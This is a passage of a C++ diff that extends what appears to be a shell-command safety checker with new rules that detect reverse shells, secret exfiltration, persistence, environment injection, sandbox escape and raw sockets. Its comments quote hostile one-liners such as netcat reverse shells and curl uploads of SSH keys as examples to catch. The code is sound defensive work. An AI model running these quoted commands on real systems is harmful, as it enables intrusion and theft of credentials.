@@ -2,11 +2,13 @@
 
 #include "core/CoreTr.h"
 #include "core/safety/CommandUnwrapper.h"
+#include "core/safety/EmbeddedCommands_p.h"
 #include "core/safety/InterpreterArgs_p.h"
 #include "core/safety/PathClassifier_p.h"
 #include "core/safety/ShellLexer.h"
 #include "core/safety/SqlScanner_p.h"
 
+#include <QDir>
 #include <QHash>
 #include <QRegularExpression>
 #include <QSet>
@@ -53,7 +55,21 @@ enum class Rule {
     GitForcePush,
     GitResetHard,
     GitClean,
+    GitPushDelete,
+    GitReflogExpire,
     TooComplex,
+    UnknownProgram,
+    WriteThenRun,
+    OtherUser,
+    RemoteHost,
+    SandboxEscape,
+    OptionExec,
+    ArchiveOverSystem,
+    Persistence,
+    RawSocket,
+    ReverseShell,
+    SecretExfiltration,
+    EnvInjection,
 };
 
 QString ruleId(Rule rule)
@@ -121,8 +137,36 @@ QString ruleId(Rule rule)
         return QStringLiteral("git-reset-hard");
     case Rule::GitClean:
         return QStringLiteral("git-clean");
+    case Rule::GitPushDelete:
+        return QStringLiteral("git-push-delete");
+    case Rule::GitReflogExpire:
+        return QStringLiteral("git-reflog-expire");
     case Rule::TooComplex:
         return QStringLiteral("too-complex");
+    case Rule::UnknownProgram:
+        return QStringLiteral("unknown-program");
+    case Rule::WriteThenRun:
+        return QStringLiteral("write-then-run");
+    case Rule::OtherUser:
+        return QStringLiteral("other-user");
+    case Rule::RemoteHost:
+        return QStringLiteral("remote-host");
+    case Rule::SandboxEscape:
+        return QStringLiteral("sandbox-escape");
+    case Rule::OptionExec:
+        return QStringLiteral("option-exec");
+    case Rule::ArchiveOverSystem:
+        return QStringLiteral("archive-over-system");
+    case Rule::Persistence:
+        return QStringLiteral("persistence");
+    case Rule::RawSocket:
+        return QStringLiteral("raw-socket");
+    case Rule::ReverseShell:
+        return QStringLiteral("reverse-shell");
+    case Rule::SecretExfiltration:
+        return QStringLiteral("secret-exfiltration");
+    case Rule::EnvInjection:
+        return QStringLiteral("env-injection");
     }
     return {};
 }
@@ -192,8 +236,41 @@ QString ruleReason(Rule rule)
         return Tr::tr("Throws away uncommitted changes (git reset --hard)");
     case Rule::GitClean:
         return Tr::tr("Deletes untracked files (git clean -f)");
+    case Rule::GitPushDelete:
+        return Tr::tr("Deletes a branch or tag on the remote (git push --delete)");
+    case Rule::GitReflogExpire:
+        return Tr::tr("Expires the reflog, the way back to lost commits (git reflog expire)");
     case Rule::TooComplex:
         return Tr::tr("Nests or expands too deeply to be checked completely");
+    case Rule::UnknownProgram:
+        return Tr::tr("Runs a program whose name is only known when the command runs "
+                      "($(...), $VAR, arrays, code that builds the command)");
+    case Rule::WriteThenRun:
+        return Tr::tr("Runs a script that the same command line writes");
+    case Rule::OtherUser:
+        return Tr::tr("Runs a command as another user (pkexec, runuser, setpriv)");
+    case Rule::RemoteHost:
+        return Tr::tr("Runs commands on another host (ssh)");
+    case Rule::SandboxEscape:
+        return Tr::tr("Runs a command on the host, outside the sandbox (flatpak-spawn --host)");
+    case Rule::OptionExec:
+        return Tr::tr("An option makes the program run another command (git alias '!', "
+                      "tar --checkpoint-action=exec)");
+    case Rule::ArchiveOverSystem:
+        return Tr::tr("Extracts an archive over / or a system directory (tar -C /)");
+    case Rule::Persistence:
+        return Tr::tr("Installs something that runs later on its own (shell start-up file, "
+                      "crontab, user service)");
+    case Rule::RawSocket:
+        return Tr::tr("Opens a network connection through /dev/tcp or /dev/udp");
+    case Rule::ReverseShell:
+        return Tr::tr("Connects a shell to the network (reverse shell: nc -e, socat exec:, "
+                      "bash -i >& /dev/tcp/...)");
+    case Rule::SecretExfiltration:
+        return Tr::tr("Sends secrets (SSH keys, credentials, /etc/shadow) over the network");
+    case Rule::EnvInjection:
+        return Tr::tr("Sets a variable that loads code into the programs it starts "
+                      "(LD_PRELOAD, LD_LIBRARY_PATH, BASH_ENV)");
     }
     return {};
 }
@@ -217,7 +294,17 @@ Level defaultLevel(Rule rule)
     case Rule::GitForcePush:
     case Rule::GitResetHard:
     case Rule::GitClean:
+    case Rule::GitPushDelete:
+    case Rule::GitReflogExpire:
     case Rule::WorldWritableChmod: // raised to high when recursive or on a system path
+    case Rule::UnknownProgram:
+    case Rule::WriteThenRun:
+    case Rule::OtherUser:
+    case Rule::RemoteHost:
+    case Rule::OptionExec:
+    case Rule::Persistence:
+    case Rule::RawSocket:
+    case Rule::EnvInjection:
         return Level::Medium;
     default:
         return Level::High;
@@ -346,8 +433,14 @@ bool isDecoder(const QStringList &words)
         }
         return false;
     };
-    if (name == u"base64" || name == u"base32" || name == u"basenc")
-        return hasAny({u"-d", u"--decode", u"-D"});
+    if (name == u"base64" || name == u"base32" || name == u"basenc") {
+        for (const QString &w : words.mid(1)) {
+            // -d, and clusters such as -di
+            if (w.startsWith(u'-') && !w.startsWith(u"--") && w.contains(u'd'))
+                return true;
+        }
+        return hasAny({u"--decode", u"-D"});
+    }
     if (name == u"xxd")
         return hasAny({u"-r", u"-revert", u"-rp", u"-pr"});
     if (name == u"openssl")
@@ -370,6 +463,71 @@ bool matchesEveryProcess(const QString &pattern)
             return false;
     }
     return true;
+}
+
+// The last path component comes from an expansion ($(...), `...`, $x, ${x:1}): what runs is
+// only known when the command runs. "$(npm bin)/eslint" still names eslint.
+bool isDynamicName(const QString &word)
+{
+    bool dynamic = false;
+    for (qsizetype i = 0; i < word.size(); ++i) {
+        const QChar c = word.at(i);
+        if (c == u'/') {
+            dynamic = false;
+        } else if (c == u'`') {
+            dynamic = true;
+            i = word.indexOf(u'`', i + 1);
+            if (i < 0)
+                return true;
+        } else if (c == u'$' && i + 1 < word.size()) {
+            const QChar next = word.at(i + 1);
+            if (next == u'(' || next == u'{' || next == u'[') {
+                const QChar close = next == u'(' ? u')' : next == u'{' ? u'}' : u']';
+                int depth = 0;
+                qsizetype j = i + 1;
+                for (; j < word.size(); ++j) {
+                    if (word.at(j) == next)
+                        ++depth;
+                    else if (word.at(j) == close && --depth == 0)
+                        break;
+                }
+                if (j >= word.size())
+                    return true;
+                dynamic = true;
+                i = j;
+            } else if (next.isLetterOrNumber() || next == u'_'
+                       || QStringView(u"@*#?$!-").contains(next)) {
+                dynamic = true;
+            }
+        }
+    }
+    return dynamic;
+}
+
+bool isNetcat(const QString &name)
+{
+    return name == u"nc" || name == u"ncat" || name == u"netcat" || name == u"nc.traditional"
+        || name == u"nc.openbsd" || name == u"socat" || name == u"telnet" || name == u"cryptcat";
+}
+
+// Programs that send what they are given to another machine.
+bool isNetworkSender(const QString &name)
+{
+    static const QStringList names = {
+        QStringLiteral("curl"), QStringLiteral("wget"),  QStringLiteral("scp"),
+        QStringLiteral("sftp"), QStringLiteral("rsync"), QStringLiteral("ssh"),
+        QStringLiteral("http"), QStringLiteral("https"), QStringLiteral("xh"),
+        QStringLiteral("ftp"),  QStringLiteral("tftp"),  QStringLiteral("openssl"),
+        QStringLiteral("mail"), QStringLiteral("mailx"), QStringLiteral("sendmail")};
+    return isNetcat(name) || names.contains(name);
+}
+
+// scp/rsync operands naming another machine: host:path, user@host:path.
+bool isRemoteOperand(const QString &operand)
+{
+    const qsizetype colon = operand.indexOf(u':');
+    return colon > 0 && !operand.startsWith(u'/') && !operand.startsWith(u'.')
+        && !operand.left(colon).contains(u'/');
 }
 
 struct CodeSources
@@ -433,6 +591,12 @@ private:
     void assessInvocation(const Invocation &invocation, bool findExecDeletes);
     void assessCodeSources(int index, const Invocation &invocation);
     void assessForkBomb(int index, const QList<Invocation> &invocations);
+    void assessUnknownProgram(int index, const Invocation &invocation);
+    void assessWrappers(const Invocation &invocation);
+    void assessEnvironment(int index, const QList<Invocation> &invocations);
+    void assessSockets(int index, const QList<Invocation> &invocations);
+    void assessExfiltration(int index, const Invocation &invocation);
+    void recordDownloadedOutput(int index, const QList<Invocation> &invocations);
     void trackDirectory(const QList<Invocation> &invocations);
 
     bool deleteTarget(const QString &path);
@@ -452,11 +616,21 @@ private:
     void assessFind(const QStringList &words, bool execDeletes);
     void assessGit(const QStringList &words);
     void assessSql(int index, const QString &name, const QStringList &words);
+    void assessExtract(const QString &name, const QStringList &words);
+    void assessNetcat(const QString &name, const QStringList &words);
     void recordDownloads(const QString &name, const QStringList &words);
 
     CodeSources sourcesOf(int index) const;
     CodeSources subtreeSources(int index) const;
     CodeSources stdinSources(int index) const;
+    bool printsShellSetup(int index) const;
+    bool pipedWithNetcat(int index) const;
+    bool mentionsSecret(const QString &word) const;
+    bool readsSecrets(int index) const;
+    QString writtenKey(const QString &path) const
+    {
+        return QDir::cleanPath(PathClassifier::resolve(path, m_cwd));
+    }
 
     QList<ShellCommand> m_commands;
     bool m_complete = true;
@@ -465,6 +639,10 @@ private:
     QString m_cwd;
     // Names of files the line downloads (curl -o x.sh): running them later is remote code.
     QSet<QString> m_downloads;
+    // Files the commands so far wrote (echo > x.sh), and those the current command writes:
+    // running them is write-then-run.
+    QSet<QString> m_written;
+    QSet<QString> m_pendingWrites;
     QStringList m_ids;
     QStringList m_reasons;
     Level m_level = Level::None;
@@ -488,9 +666,22 @@ void Assessor::assessCommand(int index)
         assessInvocation(invocation, findExecDeletes);
         assessCodeSources(index, invocation);
         assessSql(index, CommandUnwrapper::programName(invocation.words.first()), invocation.words);
+        assessUnknownProgram(index, invocation);
+        assessWrappers(invocation);
+        assessExfiltration(index, invocation);
+        for (const EmbeddedCommands::Command &embedded : EmbeddedCommands::find(invocation.words)) {
+            if (embedded.viaOption)
+                flag(Rule::OptionExec);
+        }
     }
+    assessEnvironment(index, invocations);
+    assessSockets(index, invocations);
+    recordDownloadedOutput(index, invocations);
     assessForkBomb(index, invocations);
     trackDirectory(invocations);
+    // A command does not run what it writes itself; the next ones may.
+    m_written.unite(m_pendingWrites);
+    m_pendingWrites.clear();
 }
 
 void Assessor::assessInvocation(const Invocation &invocation, bool findExecDeletes)
@@ -565,6 +756,26 @@ void Assessor::assessInvocation(const Invocation &invocation, bool findExecDelet
         assessFind(words, findExecDeletes);
     } else if (name == u"git") {
         assessGit(words);
+    } else if (name == u"tar" || name == u"gtar" || name == u"bsdtar" || name == u"unzip") {
+        assessExtract(name, words);
+    } else if (name == u"crontab") {
+        // Anything but listing, removing or testing installs a crontab.
+        const Args args = parseArgs(words, {u"u", {}, {}});
+        if (!args.has(u'l') && !args.has(u'r') && !args.has(u'T') && !args.has(u'V'))
+            flag(Rule::Persistence);
+    } else if (name == u"at" || name == u"batch") {
+        const Args args = parseArgs(words, {u"fqt", {}, {}});
+        if (!args.has(u'l') && !args.has(u'd') && !args.has(u'r') && !args.has(u'c')
+            && !args.has(u'V'))
+            flag(Rule::Persistence);
+    } else if (isNetcat(name)) {
+        assessNetcat(name, words);
+    } else if (name == u"ssh") {
+        const Args args = parseArgs(words, {u"BbcDEeFIiJLlmOoPpQRSWw", {}, {}});
+        if (!args.operands.isEmpty() && !args.has(u'G') && !args.has(u'V') && !args.has(u'Q'))
+            flag(Rule::RemoteHost);
+    } else if (name == u"runuser") {
+        flag(Rule::OtherUser); // runuser USER -c ...; the -u form is peeled as a wrapper
     }
 }
 
@@ -595,7 +806,10 @@ void Assessor::writeTarget(const QString &path)
 {
     if (path.isEmpty())
         return;
+    m_pendingWrites.insert(writtenKey(path));
     const QString resolved = PathClassifier::resolve(path, m_cwd);
+    if (PathClassifier::isAutostart(resolved))
+        flag(Rule::Persistence);
     if (PathClassifier::classify(resolved) == PathKind::BlockDevice)
         flag(Rule::DeviceWrite);
     else if (resolved == u"/proc/sysrq-trigger")
@@ -892,6 +1106,14 @@ void Assessor::assessService(const QString &name, const QStringList &words)
               QStringLiteral("message"), QStringLiteral("when")},
              {}});
         const QString verb = args.operands.value(0);
+        // A user unit that is enabled starts on its own at the next login.
+        static const QStringList installs = {
+            QStringLiteral("enable"), QStringLiteral("reenable"),  QStringLiteral("link"),
+            QStringLiteral("preset"), QStringLiteral("add-wants"), QStringLiteral("add-requires"),
+            QStringLiteral("edit")};
+        if ((args.hasLong(u"user") || args.hasLong(u"global")) && installs.contains(verb)
+            && args.operands.size() >= 2)
+            flag(Rule::Persistence);
         static const QStringList stops = {QStringLiteral("stop"),    QStringLiteral("disable"),
                                           QStringLiteral("mask"),    QStringLiteral("kill"),
                                           QStringLiteral("isolate"), QStringLiteral("freeze")};
@@ -1097,13 +1319,24 @@ void Assessor::assessGit(const QStringList &words)
         bool force = args.has(u'f') || args.hasLong(u"force") || args.hasLong(u"mirror");
         for (auto it = args.longs.cbegin(); it != args.longs.cend(); ++it)
             force = force || it.key().startsWith(u"force-with-lease");
-        for (const QString &refspec : args.operands.mid(1))
+        bool deletes = args.has(u'd') || args.hasLong(u"delete") || args.hasLong(u"prune");
+        for (const QString &refspec : args.operands.mid(1)) {
             force = force || refspec.startsWith(u'+');
+            // ":branch" pushes nothing over it; a lone ":" pushes the matching branches.
+            deletes = deletes || (refspec.startsWith(u':') && refspec.size() > 1)
+                || refspec.startsWith(u"+:");
+        }
         if (force)
             flag(Rule::GitForcePush);
+        if (deletes)
+            flag(Rule::GitPushDelete);
     } else if (subcommand == u"reset") {
         if (parseArgs(rest).hasLong(u"hard"))
             flag(Rule::GitResetHard);
+    } else if (subcommand == u"reflog") {
+        const QString action = rest.value(1);
+        if (action == u"expire" || action == u"delete")
+            flag(Rule::GitReflogExpire);
     } else if (subcommand == u"clean") {
         const Args args = parseArgs(rest, {u"e", {QStringLiteral("exclude")}, {}});
         const bool force = args.has(u'f') || args.hasLong(u"force");
@@ -1268,6 +1501,15 @@ void Assessor::assessCodeSources(int index, const Invocation &invocation)
                 CommandUnwrapper::programName(invocation.words.at(interpreter.scriptWord))))
             flag(Rule::RemoteCode);
     }
+    // echo ... > x.sh; sh x.sh, chmod +x x.sh && ./x.sh: the line writes what it runs.
+    const QString &program = invocation.words.first();
+    const int scriptWord = program.contains(u'/') ? 0 : interpreter.scriptWord;
+    if (scriptWord >= 0) {
+        const QString &script = invocation.words.at(scriptWord);
+        if (m_written.contains(writtenKey(script))
+            && !m_downloads.contains(CommandUnwrapper::programName(script)))
+            flag(Rule::WriteThenRun);
+    }
     recordDownloads(CommandUnwrapper::programName(invocation.words.first()), invocation.words);
     // perl -e 'fork while fork', python -c 'while True: os.fork()'
     static const QRegularExpression forkLoop(QStringLiteral(
@@ -1275,7 +1517,15 @@ void Assessor::assessCodeSources(int index, const Invocation &invocation)
     for (const QString &code : interpreter.code) {
         if (forkLoop.match(code).hasMatch())
             flag(Rule::ForkBomb);
+        if (interpreter.kind != InterpreterArgs::Kind::Shell
+            && interpreter.kind != InterpreterArgs::Kind::Eval
+            && InterpreterArgs::opensReverseShell(code))
+            flag(Rule::ReverseShell);
     }
+    // nc host port | sh, sh -i 2>&1 | nc host port: a shell talking to the network.
+    if (interpreter.kind == InterpreterArgs::Kind::Shell && interpreter.readsStdin
+        && pipedWithNetcat(index))
+        flag(Rule::ReverseShell);
 }
 
 void Assessor::recordDownloads(const QString &name, const QStringList &words)
@@ -1331,6 +1581,416 @@ void Assessor::recordDownloads(const QString &name, const QStringList &words)
                 m_downloads.insert(urlName(url));
         }
     }
+}
+
+// $(echo rm) -rf /, ${x:1}, "${a[@]}", sh -c '$0 ...' rm, xargs -I{} {}: when the gate cannot
+// know what program will run, it asks.
+void Assessor::assessUnknownProgram(int index, const Invocation &invocation)
+{
+    // An incomplete line is reported as too complex already.
+    if (!m_complete)
+        return;
+    const QString &program = invocation.words.first();
+    const bool placeholder = invocation.via != Via::Direct && program.contains(u"{}");
+    if (!placeholder && !isDynamicName(program))
+        return;
+    // $(curl ...) as the program is reported as remote code; eval "$(ssh-agent -s)" runs what
+    // a well-known setup tool prints.
+    bool substituted = false;
+    bool setupOnly = true;
+    for (const int child : m_children.at(index)) {
+        const ShellCommand &substitution = m_commands.at(child);
+        if (substitution.parentWord != invocation.offset
+            || (substitution.origin != ShellCommand::Origin::CommandSubstitution
+                && substitution.origin != ShellCommand::Origin::ProcessSubstitution))
+            continue;
+        const CodeSources sources = subtreeSources(child);
+        if (sources.remote || sources.decoded)
+            return;
+        substituted = true;
+        setupOnly = setupOnly && printsShellSetup(child);
+    }
+    static const QRegularExpression oneSubstitution(QStringLiteral(R"(^\$\([^()`$]*\)$)"));
+    if (substituted && setupOnly && oneSubstitution.match(program).hasMatch())
+        return;
+    flag(Rule::UnknownProgram);
+}
+
+// Tools whose output is meant to be eval'd to set up the shell: eval "$(pyenv init -)".
+bool Assessor::printsShellSetup(int index) const
+{
+    static const QStringList tools = {
+        QStringLiteral("ssh-agent"),  QStringLiteral("dircolors"), QStringLiteral("pyenv"),
+        QStringLiteral("rbenv"),      QStringLiteral("nodenv"),    QStringLiteral("goenv"),
+        QStringLiteral("jenv"),       QStringLiteral("direnv"),    QStringLiteral("conda"),
+        QStringLiteral("micromamba"), QStringLiteral("brew"),      QStringLiteral("opam"),
+        QStringLiteral("fnm"),        QStringLiteral("mise"),      QStringLiteral("zoxide"),
+        QStringLiteral("starship")};
+    const ShellCommand &command = m_commands.at(index);
+    if (command.words.isEmpty() || command.pipedTo >= 0 || command.pipedFrom >= 0
+        || !m_children.at(index).isEmpty())
+        return false;
+    return tools.contains(CommandUnwrapper::programName(command.words.first()));
+}
+
+// pkexec, runuser -u and setpriv --reuid run the command as someone else; flatpak-spawn --host
+// runs it outside the sandbox.
+void Assessor::assessWrappers(const Invocation &invocation)
+{
+    for (const QStringList &wrapper : invocation.wrappers) {
+        const QString name = CommandUnwrapper::programName(wrapper.first());
+        if (name == u"pkexec" || name == u"runuser") {
+            flag(Rule::OtherUser);
+        } else if (name == u"setpriv") {
+            const Args args = parseArgs(wrapper);
+            for (const QStringView option :
+                 {u"reuid", u"ruid", u"euid", u"regid", u"rgid", u"egid", u"groups", u"init-groups",
+                  u"inh-caps", u"ambient-caps", u"bounding-set"}) {
+                if (args.hasLong(option))
+                    flag(Rule::OtherUser);
+            }
+        } else if (name == u"flatpak-spawn") {
+            if (parseArgs(wrapper).hasLong(u"host"))
+                flag(Rule::SandboxEscape);
+        } else if (name == u"host-spawn" || name == u"distrobox-host-exec") {
+            flag(Rule::SandboxEscape);
+        }
+    }
+}
+
+// LD_PRELOAD=x.so cmd, env LD_LIBRARY_PATH=... cmd, export BASH_ENV=...
+void Assessor::assessEnvironment(int index, const QList<Invocation> &invocations)
+{
+    static const QRegularExpression injecting(
+        QStringLiteral(R"(^(?:LD_PRELOAD|LD_AUDIT|LD_LIBRARY_PATH|BASH_ENV|PS4|)"
+                       R"(DYLD_INSERT_LIBRARIES|DYLD_LIBRARY_PATH)\+?=)"));
+    static const QStringList declarers = {QStringLiteral("export"), QStringLiteral("declare"),
+                                          QStringLiteral("typeset"), QStringLiteral("local"),
+                                          QStringLiteral("readonly")};
+    const ShellCommand &command = m_commands.at(index);
+    QStringList words = command.assignments;
+    for (const Invocation &invocation : invocations) {
+        for (const QStringList &wrapper : invocation.wrappers)
+            words += wrapper;
+    }
+    if (!command.words.isEmpty() && declarers.contains(command.words.first()))
+        words += command.words.mid(1);
+    for (const QString &word : std::as_const(words)) {
+        if (injecting.match(word).hasMatch())
+            flag(Rule::EnvInjection);
+    }
+}
+
+// bash -i >& /dev/tcp/host/port 0>&1 hands a shell to the connection; any other use of
+// /dev/tcp or /dev/udp still talks to the network behind the gate's back.
+void Assessor::assessSockets(int index, const QList<Invocation> &invocations)
+{
+    bool socket = false;
+    for (const ShellRedirection &redirection : m_commands.at(index).redirections) {
+        socket = socket || redirection.target.startsWith(u"/dev/tcp/")
+            || redirection.target.startsWith(u"/dev/udp/");
+    }
+    if (!socket)
+        return;
+    bool shell = false;
+    for (const Invocation &invocation : invocations)
+        shell =
+            shell || InterpreterArgs::parse(invocation.words).kind == InterpreterArgs::Kind::Shell;
+    flag(shell ? Rule::ReverseShell : Rule::RawSocket);
+}
+
+bool Assessor::pipedWithNetcat(int index) const
+{
+    const auto isNetcatCommand = [this](int i) {
+        for (const Invocation &invocation : CommandUnwrapper::invocations(m_commands.at(i).words)) {
+            if (isNetcat(CommandUnwrapper::programName(invocation.words.first())))
+                return true;
+        }
+        return false;
+    };
+    int steps = 0;
+    for (int i = m_commands.at(index).pipedFrom; i >= 0 && steps < 64;
+         i = m_commands.at(i).pipedFrom, ++steps) {
+        if (isNetcatCommand(i))
+            return true;
+    }
+    for (int i = m_commands.at(index).pipedTo; i >= 0 && steps < 128;
+         i = m_commands.at(i).pipedTo, ++steps) {
+        if (isNetcatCommand(i))
+            return true;
+    }
+    return false;
+}
+
+// nc -e /bin/sh host port, ncat --sh-exec, socat tcp:host:port exec:sh: the program's input
+// and output are the connection.
+void Assessor::assessNetcat(const QString &name, const QStringList &words)
+{
+    if (name == u"telnet")
+        return; // telnet -e sets an escape character
+    if (name == u"socat") {
+        static const QRegularExpression runs(QStringLiteral("^(?:exec|system):"),
+                                             QRegularExpression::CaseInsensitiveOption);
+        static const QRegularExpression network(
+            QStringLiteral("^(?:tcp|udp|sctp|openssl|ssl|socks|proxy|ip)[0-9a-z-]*:"),
+            QRegularExpression::CaseInsensitiveOption);
+        bool running = false;
+        bool networked = false;
+        for (const QString &address : words.mid(1)) {
+            running = running || runs.match(address).hasMatch();
+            networked = networked || network.match(address).hasMatch();
+        }
+        if (running && networked)
+            flag(Rule::ReverseShell);
+        return;
+    }
+    for (const QString &w : words.mid(1)) {
+        const QString option = w.mid(2).section(u'=', 0, 0);
+        const bool runs = w.startsWith(u"--")
+            ? option == u"exec" || option == u"sh-exec" || option == u"lua-exec"
+            : w.startsWith(u'-') && (w.contains(u'e') || w.contains(u'c'));
+        if (runs)
+            flag(Rule::ReverseShell);
+    }
+}
+
+// tar -xf a.tar -C /, cd / && tar xf a.tar, unzip a.zip -d /etc: the archive's files replace
+// the system's.
+void Assessor::assessExtract(const QString &name, const QStringList &words)
+{
+    QStringList directories;
+    bool extracts = false;
+    if (name == u"unzip") {
+        const Args args = parseArgs(words, {u"dPx", {}, {}});
+        extracts = !args.has(u'l') && !args.has(u't') && !args.has(u'v') && !args.has(u'Z')
+            && !args.has(u'z') && !args.has(u'p');
+        directories = args.values(u'd');
+    } else {
+        // Short options taking a value; in the old dashless bundle (tar xzf a.tgz -C /) they
+        // take the next words in order.
+        static const QStringView withValue = u"bCfFgHIKLNTVX";
+        static const QStringList longWithValue = {QStringLiteral("directory"),
+                                                  QStringLiteral("file"),
+                                                  QStringLiteral("exclude"),
+                                                  QStringLiteral("exclude-from"),
+                                                  QStringLiteral("files-from"),
+                                                  QStringLiteral("transform"),
+                                                  QStringLiteral("use-compress-program"),
+                                                  QStringLiteral("format"),
+                                                  QStringLiteral("owner"),
+                                                  QStringLiteral("group"),
+                                                  QStringLiteral("mode"),
+                                                  QStringLiteral("checkpoint-action"),
+                                                  QStringLiteral("to-command"),
+                                                  QStringLiteral("info-script"),
+                                                  QStringLiteral("new-volume-script")};
+        qsizetype i = 1;
+        if (words.size() > 1 && !words.at(1).startsWith(u'-')) {
+            const QString bundle = words.at(1);
+            i = 2;
+            for (const QChar c : bundle) {
+                extracts = extracts || c == u'x';
+                if (withValue.contains(c)) {
+                    const QString value = words.value(i++);
+                    if (c == u'C')
+                        directories.append(value);
+                }
+            }
+        }
+        for (; i < words.size(); ++i) {
+            const QString &w = words.at(i);
+            if (w == u"--")
+                break;
+            if (w.startsWith(u"--")) {
+                const QString option = w.mid(2).section(u'=', 0, 0);
+                QString value = w.section(u'=', 1);
+                if (!w.contains(u'=') && longWithValue.contains(option) && i + 1 < words.size())
+                    value = words.at(++i);
+                extracts = extracts || option == u"extract" || option == u"get";
+                if (option.size() >= 3 && QStringView(u"directory").startsWith(option))
+                    directories.append(value);
+                continue;
+            }
+            if (!w.startsWith(u'-'))
+                continue;
+            for (qsizetype j = 1; j < w.size(); ++j) {
+                const QChar c = w.at(j);
+                extracts = extracts || c == u'x';
+                if (withValue.contains(c)) {
+                    const QString value = j + 1 < w.size() ? w.mid(j + 1) : words.value(++i);
+                    if (c == u'C')
+                        directories.append(value);
+                    break;
+                }
+            }
+        }
+    }
+    if (!extracts)
+        return;
+    if (directories.isEmpty())
+        directories.append(QStringLiteral("."));
+    for (const QString &directory : std::as_const(directories)) {
+        const QString resolved = PathClassifier::resolve(directory, m_cwd);
+        if (PathClassifier::classify(resolved) == PathKind::Root
+            || PathClassifier::isProtectedForWrites(resolved))
+            flag(Rule::ArchiveOverSystem);
+    }
+}
+
+// ~/.ssh/id_rsa, f=@$HOME/.aws/credentials, --post-file=/etc/shadow: the word names a secret
+// file, maybe after curl's "@" or "<", or an option's "=".
+bool Assessor::mentionsSecret(const QString &word) const
+{
+    QStringList candidates{word};
+    const qsizetype at = word.lastIndexOf(u'@');
+    if (at >= 0)
+        candidates.append(word.mid(at + 1));
+    const qsizetype eq = word.indexOf(u'=');
+    if (eq >= 0)
+        candidates.append(word.mid(eq + 1));
+    const qsizetype lt = word.indexOf(u'<');
+    if (lt >= 0)
+        candidates.append(word.mid(lt + 1));
+    for (QString candidate : std::as_const(candidates)) {
+        // curl and the like read "~/x" after "@" themselves; bash leaves it as written.
+        if (candidate.startsWith(u"~/"))
+            candidate.replace(0, 1, ShellLexer::homeMarker());
+        if (!candidate.isEmpty()
+            && PathClassifier::isSecret(PathClassifier::resolve(candidate, m_cwd)))
+            return true;
+    }
+    return false;
+}
+
+// The command, or one inside it, reads a secret: cat ~/.ssh/id_rsa, tar c ~/.gnupg,
+// gpg --export-secret-keys, < /etc/shadow.
+bool Assessor::readsSecrets(int index) const
+{
+    QList<int> pending{index};
+    while (!pending.isEmpty()) {
+        const int current = pending.takeLast();
+        const ShellCommand &command = m_commands.at(current);
+        for (const ShellRedirection &redirection : command.redirections) {
+            if ((redirection.op == u"<" || redirection.op == u"<>") && redirection.fd <= 0
+                && mentionsSecret(redirection.target))
+                return true;
+        }
+        for (const Invocation &invocation : CommandUnwrapper::invocations(command.words)) {
+            const QString name = CommandUnwrapper::programName(invocation.words.first());
+            // ssh -i KEY logs in with the key; it does not pass it on.
+            const bool usesKey = name.startsWith(u"ssh") || name == u"scp" || name == u"sftp";
+            for (qsizetype i = 1; i < invocation.words.size(); ++i) {
+                const QString &w = invocation.words.at(i);
+                if (usesKey && (w == u"-i" || w == u"-f")) {
+                    ++i;
+                    continue;
+                }
+                if (w.startsWith(u"--export-secret") || mentionsSecret(w))
+                    return true;
+            }
+        }
+        pending += m_children.at(current);
+    }
+    return false;
+}
+
+// cat ~/.ssh/id_rsa | curl -d @- URL, curl -F f=@~/.ssh/id_rsa URL, scp ~/.ssh/id_rsa host:
+void Assessor::assessExfiltration(int index, const Invocation &invocation)
+{
+    const QStringList &words = invocation.words;
+    const QString name = CommandUnwrapper::programName(words.first());
+    if (!isNetworkSender(name))
+        return;
+    bool leaks = false;
+    if (name == u"curl") {
+        const Args args = parseArgs(
+            words,
+            {u"AbcCdDeEFHKmoPQrtTuUwxXYyz",
+             {QStringLiteral("data"), QStringLiteral("data-binary"), QStringLiteral("data-raw"),
+              QStringLiteral("data-ascii"), QStringLiteral("data-urlencode"),
+              QStringLiteral("form"), QStringLiteral("form-string"), QStringLiteral("upload-file"),
+              QStringLiteral("json"), QStringLiteral("output"), QStringLiteral("header"),
+              QStringLiteral("user"), QStringLiteral("url")},
+             {}});
+        QStringList uploads = args.values(u'd') + args.values(u'F') + args.values(u'T');
+        for (const QStringView option :
+             {u"data", u"data-binary", u"data-raw", u"data-ascii", u"data-urlencode", u"form",
+              u"form-string", u"upload-file", u"json"})
+            uploads += args.longValues(option);
+        for (const QString &upload : std::as_const(uploads))
+            leaks = leaks || mentionsSecret(upload);
+    } else if (name == u"wget") {
+        for (const QString &w : words.mid(1)) {
+            if (w.startsWith(u"--post-file=") || w.startsWith(u"--body-file="))
+                leaks = leaks || mentionsSecret(w);
+        }
+        for (qsizetype i = 1; i + 1 < words.size(); ++i) {
+            if (words.at(i) == u"--post-file" || words.at(i) == u"--body-file")
+                leaks = leaks || mentionsSecret(words.at(i + 1));
+        }
+    } else if (name == u"scp" || name == u"sftp" || name == u"rsync") {
+        const Args args = parseArgs(
+            words,
+            {u"iFoPScJlDBe",
+             {QStringLiteral("rsh"), QStringLiteral("rsync-path"), QStringLiteral("exclude"),
+              QStringLiteral("include"), QStringLiteral("files-from"), QStringLiteral("filter"),
+              QStringLiteral("port")},
+             {}});
+        bool remote = false;
+        for (const QString &operand : args.operands)
+            remote = remote || isRemoteOperand(operand);
+        for (const QString &operand : args.operands) {
+            if (remote && !isRemoteOperand(operand))
+                leaks = leaks || mentionsSecret(operand);
+        }
+    } else if (name == u"http" || name == u"https" || name == u"xh") {
+        for (const QString &w : words.mid(1)) {
+            if (w.contains(u'@'))
+                leaks = leaks || mentionsSecret(w);
+        }
+    }
+    // What flows into it: standard input, the commands piped in, substitutions in its words.
+    const ShellCommand &command = m_commands.at(index);
+    for (const ShellRedirection &redirection : command.redirections) {
+        if ((redirection.op == u"<" || redirection.op == u"<>") && redirection.fd <= 0)
+            leaks = leaks || mentionsSecret(redirection.target);
+    }
+    int upstream = command.pipedFrom;
+    for (int steps = 0; upstream >= 0 && steps < 64 && !leaks; ++steps) {
+        leaks = readsSecrets(upstream);
+        upstream = m_commands.at(upstream).pipedFrom;
+    }
+    for (const int child : m_children.at(index)) {
+        const ShellCommand::Origin origin = m_commands.at(child).origin;
+        if (origin == ShellCommand::Origin::CommandSubstitution
+            || origin == ShellCommand::Origin::ProcessSubstitution)
+            leaks = leaks || readsSecrets(child);
+    }
+    if (leaks)
+        flag(Rule::SecretExfiltration);
+}
+
+// curl URL > x.sh, curl URL | tee x.sh: the file holds downloaded code, like curl -o x.sh.
+void Assessor::recordDownloadedOutput(int index, const QList<Invocation> &invocations)
+{
+    bool downloads = false;
+    QStringList targets;
+    for (const Invocation &invocation : invocations) {
